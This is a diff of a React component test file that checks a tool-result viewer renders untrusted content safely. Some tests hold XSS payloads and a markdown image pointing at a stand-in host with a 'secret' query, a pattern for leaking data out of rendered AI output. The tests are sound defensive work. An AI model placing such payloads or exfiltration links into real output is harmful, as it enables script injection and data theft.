@@ -5,8 +5,8 @@ import type { Command } from "../platform";
 import { call, foreign, problem } from "../platform/memory/make";
 import { expectAxeClean } from "../test/axe";
 import { show } from "../test/show";
+import { chunkText } from "./chunkText";
 import { jsonRows } from "./JsonTreeRows";
-import { portions } from "./portions";
 import { ResultView } from "./ResultView";
 import { addLines, ROW } from "./ResultViewLines";
 import { withHeights } from "./VirtualListLayout";
@@ -75,13 +75,15 @@ describe("a result", () => {
     expect(screen.getAllByRole("figure")).toHaveLength(110);
   });
 
-  it("tol25 says what is not for a model", async () => {
+  // Proves TOL-25.
+  it("says what is not for a model", async () => {
     const blocks = [text("for both"), text("for you")];
     await show(<ResultView call={view({ result: result(blocks, { for_person: [1] }) })} />);
     expect(screen.getAllByText("for you, not for a model")).toHaveLength(1);
   });
 
-  it("s24_follows_no_address_and_makes_no_link", async () => {
+  // Proves S-24.
+  it("follows no address and makes no link", async () => {
     const blocks: Block[] = [
       {
         kind: "link",
@@ -99,7 +101,8 @@ describe("a result", () => {
     expect(screen.getByText("https://evil.example/?d=1")).toBeVisible();
   });
 
-  it("s20_markdown_loads_no_picture_and_makes_no_markup", async () => {
+  // Proves S-20.
+  it("markdown loads no picture and makes no markup", async () => {
     const words =
       "# Hi\n\n![p](https://sink.example/p?d=secret)\n\n<img src=x onerror=alert(1)><script>alert(1)</script>";
     const { container } = await show(<ResultView call={view({ result: result([text(words)]) })} />);
@@ -110,7 +113,8 @@ describe("a result", () => {
     expect(screen.getByText(/<script>alert\(1\)<\/script>/)).toBeVisible();
   });
 
-  it("s41_characters_hidden_as_entities_are_written_out_after_markdown_was_read", async () => {
+  // Proves S-41.
+  it("characters hidden as entities are written out after markdown was read", async () => {
     const { container } = await show(
       <ResultView
         call={view({
@@ -131,7 +135,8 @@ describe("a result", () => {
     expect(screen.getByText(/- two \*\*bold\*\*/)).toBeVisible();
   });
 
-  it("sam01 says in our words what was denied within a call, whatever the server says", async () => {
+  // Proves SAM-01.
+  it("says in our words what was denied within a call, whatever the server says", async () => {
     const denied = ["“Files” asked for words of a model within it. You said no. No model was asked."];
     await show(<ResultView call={view({ denied, result: result([text("All went well.")]) })} />);
     expect(screen.getByText(/You said no/)).toBeVisible();
@@ -159,10 +164,11 @@ describe("a result", () => {
     expect(screen.queryByText(/The tool says/)).toBeNull();
   });
 
+  // Proves AUT-59.
   it.each([
     ["auth.ended", "Sign in…"],
     ["auth.more", "Review…"],
-  ])("aut59 leads from %s to the review of a sign-in", async (code, name) => {
+  ])("leads from %s to the review of a sign-in", async (code, name) => {
     await show(
       <ResultView call={view({ state: "failed", problem: problem(code, { sentence: "It ended." }) })} />,
     );
@@ -217,7 +223,8 @@ describe("a result", () => {
   });
 });
 
-describe("s19_payloads_in_a_result", () => {
+// Proves S-19.
+describe("payloads in a result", () => {
   const payloads = [
     "<script>window.__pwned=1</script>",
     "<img src=x onerror=window.__pwned=1>",
@@ -261,10 +268,10 @@ describe("s19_payloads_in_a_result", () => {
 
 describe("lines", () => {
   it("lays a long text out in portions, of which nothing is missing", () => {
-    expect(portions("one\ntwo\nthree", 8)).toEqual(["one\ntwo", "three"]);
-    expect(portions("x".repeat(25), 10)).toEqual(["x".repeat(10), "x".repeat(10), "x".repeat(5)]);
-    expect(portions("", 10)).toEqual([""]);
-    expect(portions("\n\n\n", 2).join("\n")).toBe("\n\n\n");
+    expect(chunkText("one\ntwo\nthree", 8)).toEqual(["one\ntwo", "three"]);
+    expect(chunkText("x".repeat(25), 10)).toEqual(["x".repeat(10), "x".repeat(10), "x".repeat(5)]);
+    expect(chunkText("", 10)).toEqual([""]);
+    expect(chunkText("\n\n\n", 2).join("\n")).toBe("\n\n\n");
   });
 
   it("join across pieces, and one without end is broken", () => {
